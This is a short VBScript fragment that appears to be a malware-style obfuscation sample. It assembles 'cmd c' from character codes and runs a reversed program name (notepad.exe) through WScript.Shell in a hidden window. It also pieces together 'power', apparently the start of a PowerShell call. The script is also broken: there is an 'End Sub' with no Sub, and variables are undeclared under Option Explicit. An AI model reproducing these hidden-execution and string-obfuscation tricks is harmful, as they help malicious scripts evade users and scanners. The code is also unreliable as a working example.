Option Explicit
Dim a
a = Chr(99) & Chr(109) & Chr(100) & Chr(32) & ChrW(&H63)
Set s = CreateObject("WScript.Shell")
s.Run StrReverse("exe.dapeton"), 0
t = Replace("p#o#w#e#r", "#", "")
End Sub
